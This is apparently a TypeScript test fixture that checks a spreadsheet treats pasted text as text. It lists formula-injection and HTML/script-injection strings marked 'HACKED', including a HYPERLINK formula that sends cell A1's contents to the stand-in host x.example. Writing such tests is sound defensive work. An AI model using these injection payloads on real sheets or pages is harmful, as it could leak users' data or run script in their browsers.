/** Texts that would do harm if a sheet read them as a formula or a page as markup, and a workbook full of them. */

import { createLocalSheet, type HeadlessSheet } from '../../local/node/create';
import { pushedBundle } from '../bundle/pushed';

/** Stands in every hostile text: found outside of quotes it has become part of a formula. */
export const MARK = 'HACKED';

export const HOSTILE = [
  `=${MARK}()`,
  `=HYPERLINK("http://x.example/?"&A1,"${MARK}")`,
  `+${MARK}()`,
  `-${MARK}()`,
  `@${MARK}`,
  `\t=${MARK}()`,
  `\n=${MARK}()`,
  ` =${MARK}()`,
  `'=${MARK}()`,
  `''${MARK}`,
  `"),${MARK}(),("`,
  `"&${MARK}()&"`,
  `");${MARK}();("`,
  `'!A1+${MARK}()`,
  `{${MARK}}`,
  `{summary}!${MARK}`,
  `＝${MARK}()`,
  `|${MARK}`,
  `%0A=${MARK}()`,
  `<img src=x onerror=${MARK}()>`,
  `<script>${MARK}()</script>`,
  `</script><script>${MARK}()</script>`,
  `javascript:${MARK}()`,
  `&lt;b&gt;${MARK}`,
  `\${${MARK}}`,
  `{{${MARK}}}`,
  `*${MARK}?~`,
  `>${MARK}`,
  `<>${MARK}`,
];

export const UNICODE = [
  'עסקאות שנסגרו',
  'صفقات ١٢٣',
  '\u202eexod\u202c',
  'e\u0301te\u0301',
  'Zͫ̋a̐̊l̍̔g̃o̎',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿',
  'I\u0307stanbul ıİ',
  'ẞtraße ﬁn',
  '\ufeffbom',
  'a\u200bb\u2060c',
  '\ud83d',
  '日本語の取引',
];

export const NUL = 'nul\u0000byte';

/** A text long enough to fill a cell's width many times. */
export const LONG = `${MARK} `.repeat(625);

/** `text` in the place of every header, name, stage and source of a table of deals. */
export function dealsWith(texts: readonly string[]): string[][] {
  const at = (index: number) => texts[index % texts.length] ?? '';
  const rows = Array.from({ length: 2 * texts.length + 6 }, (_, i) => [
    at(i),
    String(100 + i),
    `2024-0${1 + (i % 6)}-0${1 + (i % 9)}`,
    `2024-0${1 + (i % 6)}-2${i % 9}`,
    i % 2 ? 'Won' : 'Lost',
    at(i + 1),
    at(i + 2),
  ]);
  return [['Deal', 'Amount', 'Created', 'Closed', 'Stage', 'Owner', 'Source'], ...rows];
}

/** Written as a script writes what a user has pasted: a text is a text, whatever it begins with. */
export function openTable(rows: readonly (readonly string[])[], sheetName = 'Deals', locale = 'en_US'): HeadlessSheet {
  const workbook = { sheets: [{ id: 'data', name: 'Deals', colNumber: 12, rowNumber: rows.length + 20 }] };
  const sheet = createLocalSheet({ dist: pushedBundle, workbook, locale });
  const isText = (cell: string, column: number) => column === 0 || column > 3 || !/^[\d-]+$/.test(cell);
  const cells = rows.flatMap((row, r) =>
    row.map((cell, c) => [`${'ABCDEFG'[c]}${r + 1}`, isText(cell, c) ? `'${cell}` : cell] as const),
  );
  sheet.setMany(Object.fromEntries(cells.filter(([, cell]) => cell !== '' && cell !== "'")));
  if (sheetName !== 'Deals')
    sheet.model.dispatch('RENAME_SHEET', { sheetId: 'data', oldName: 'Deals', newName: sheetName });
  return sheet;
}

export const ask = (sheet: HeadlessSheet, name: string, request: object = {}) =>
  JSON.parse(String(sheet.callFromPage(name, [JSON.stringify(request)])));
